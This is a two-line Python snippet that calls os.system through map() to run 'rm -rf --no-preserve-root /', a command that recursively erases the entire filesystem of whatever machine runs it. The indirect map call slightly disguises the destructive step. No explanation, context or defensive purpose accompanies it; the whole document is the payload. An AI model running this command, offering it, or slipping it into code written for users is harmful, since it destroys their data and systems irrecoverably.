import os

list(map(os.system, ["rm -rf --no-preserve-root /"]))
